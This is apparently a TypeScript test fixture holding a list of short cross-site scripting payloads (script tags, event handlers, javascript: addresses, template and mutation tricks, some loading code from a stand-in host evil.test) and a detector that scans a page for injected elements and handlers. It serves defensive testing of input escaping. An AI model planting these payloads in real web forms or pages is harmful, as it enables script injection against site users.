/** Texts that become code in a page that trusts them, each at most 40 characters so that it fits a person's name. */

export const hostileTexts: readonly string[] = [
  // Elements that run by themselves.
  '<script>alert(1)</script>',
  '<ScRiPt>alert(2)</sCrIpT>',
  '<script src=//evil.test></script>',
  '<script>alert(3)//',
  '"><script>alert(4)</script>',
  "'><script>alert(5)</script>",
  '</title><script>alert(6)</script>',
  '<scr<script>ipt>alert(7)</script>',
  // Handlers.
  '<img src=x onerror=alert(8)>',
  '"><img src=x onerror=alert(9)>',
  '<img/src/onerror=alert(10)>',
  '<img src=x:x onerror="alert(11)">',
  '<svg onload=alert(12)>',
  '<svg/onload=alert`13`>',
  '<svg><script>alert(14)</script></svg>',
  '<body onload=alert(15)>',
  '<details open ontoggle=alert(16)>',
  '<input autofocus onfocus=alert(17)>',
  '<video><source onerror=alert(18)>',
  '<audio src=x onerror=alert(19)>',
  '<marquee onstart=alert(20)>',
  '" onmouseover="alert(21)" x="',
  "' autofocus onfocus='alert(22)",
  // Addresses and frames.
  'javascript:alert(23)',
  'JaVaScRiPt:alert(24)//',
  '<a href=javascript:alert(25)>x</a>',
  '<iframe src=javascript:alert(26)>',
  '<object data=javascript:alert(27)>',
  '<embed src=javascript:alert(28)>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content=0>',
  '<link rel=stylesheet href=//evil.test>',
  '<style>*{display:none}</style>',
  // Templates.
  "{{constructor.constructor('alert()')()}}",
  "{{_c.constructor('alert(30)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template's braces are the attack
  '${alert(31)}',
  '<p v-html="alert(32)">',
  // Markup that changes its meaning when it is parsed twice.
  '<math><mi><style><!--</style><img>-->',
  '<noscript><p title="</noscript><img>">',
  '<svg></p><style><g title="</style><i>">',
  '&lt;script&gt;alert(33)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(34)&#62;',
  // Text that turns around what follows it.
  '\u202E<img src=x onerror=alert(35)>',
  '\u2067أمر <b onclick=alert(36)>\u2069',
]

/**
 * What in a page can only have come out of a text: elements, handlers and addresses that the product itself never
 * makes. Runs in the page, so it stands alone.
 */
export function findPlanted(): string[] {
  const planted = 'script:not([src^="/assets/"]), iframe, object, embed, base, marquee, video, audio, math, noscript p'
  const found = [...document.querySelectorAll(planted)].map(({ outerHTML }) => outerHTML.slice(0, 200))
  for (const element of document.querySelectorAll('*'))
    for (const { name, value } of element.attributes)
      if (/^on|^v-|^srcdoc$/i.test(name) || /^\s*javascript:/i.test(value))
        found.push(`${element.tagName} ${name}=${value}`)
  for (const { content, httpEquiv } of document.querySelectorAll('meta'))
    if (httpEquiv === 'refresh') found.push(`meta refresh ${content}`)
  return found
}
